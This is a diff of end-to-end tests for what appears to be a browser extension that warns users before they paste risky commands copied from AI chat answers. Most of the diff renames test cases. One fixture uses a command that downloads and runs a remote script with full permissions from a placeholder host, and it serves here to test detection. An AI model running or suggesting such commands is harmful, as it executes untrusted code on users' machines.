@@ -55,8 +55,8 @@ const finds = (text: string): Promise<boolean> =>
     ).find(word, false, false, true);
   }, text);
 
-describe("what people copy", () => {
-  it("is what the page holds: nothing of ours goes along when all is selected", async () => {
+describe("the copied text", () => {
+  it("is that of the page when everything is selected, without text of the extension", async () => {
     await open();
     await page.click(".app-foot p");
     await page.keyboard.press("ControlOrMeta+A");
@@ -67,7 +67,7 @@ describe("what people copy", () => {
       expect(text).not.toContain(word);
   });
 
-  it("nothing of ours is met by the page's find while sheet and notice are closed", async () => {
+  it("contains no text of the extension that the page's search would find", async () => {
     await open();
     // The words for screen readers come and go.
     const live = (): Promise<string | null> =>
@@ -79,7 +79,7 @@ describe("what people copy", () => {
       expect({ word, found: await finds(word) }).toEqual({ word, found: false });
   });
 
-  it("stays what it is with the sheet open", async () => {
+  it("is the same with the sheet open", async () => {
     await open();
     await ui.openEvidence();
     await ui.untilPanel((text) => text.includes(PIPE));
@@ -91,7 +91,7 @@ describe("what people copy", () => {
 });
 
 describe("a marked command that is copied before its evidence was opened", () => {
-  it("is reported beside the site's button, which works as ever", async () => {
+  it("is reported beside the site's copy button, which still works", async () => {
     await open();
     await page.click("pre button");
     await expect.poll(notice).toContain("Before you paste");
@@ -124,7 +124,7 @@ describe("a marked command that is copied before its evidence was opened", () =>
     expect(await notice()).toBeNull();
   });
 
-  it("is reported alone, whatever else the answer holds", async () => {
+  it("is reported without the other findings of the answer", async () => {
     ({ page, ui } = await at.open(
       app([
         turn({ id: "a1", html: codeBlock(PIPE) + codeBlock("deno run -A https://x.example/y.ts") }),
@@ -135,7 +135,7 @@ describe("a marked command that is copied before its evidence was opened", () =>
     await expect.poll(notice).toContain("This command runs a program straight from an address");
   });
 
-  it("is reported where the selection ends, by key", async () => {
+  it("is reported at the end of the selection if copied by keyboard", async () => {
     await open();
     await page.evaluate(() =>
       getSelection()!.selectAllChildren(document.querySelector("pre code")!),
@@ -147,13 +147,13 @@ describe("a marked command that is copied before its evidence was opened", () =>
     expect(await notice()).toBeNull();
   });
 
-  it("is reported by the button of the whole answer, too", async () => {
+  it("is also reported for the button of the whole answer", async () => {
     await open();
     await page.click(".toolbar button");
     await expect.poll(notice).toContain(FOUND);
   });
 
-  it("leads to the evidence, and is not told again once that was opened", async () => {
+  it("leads to the evidence, and is not reported again once that was opened", async () => {
     await open();
     await page.click("pre button");
     await expect.poll(notice).toContain("Before you paste");
@@ -165,7 +165,7 @@ describe("a marked command that is copied before its evidence was opened", () =>
     expect(await notice()).toBeNull();
   });
 
-  it("is not told of a block in which nothing was found, nor of a script's click", async () => {
+  it("is not reported for a block without findings, or for a click by a script", async () => {
     await open();
     await page.click("pre:last-of-type button");
     await page.evaluate(() => (document.querySelector("pre button") as HTMLElement).click());
@@ -173,7 +173,7 @@ describe("a marked command that is copied before its evidence was opened", () =>
     expect(await notice()).toBeNull();
   });
 
-  it("is reported a moment later where it was copied before it was assessed", async () => {
+  it("is reported later if it was copied before it was assessed", async () => {
     at.site.pages.set(
       "/c/1",
       app([turn({ id: "a1", html: `<p>Run this:</p>${codeBlock(PIPE)}`, streaming: true })]),
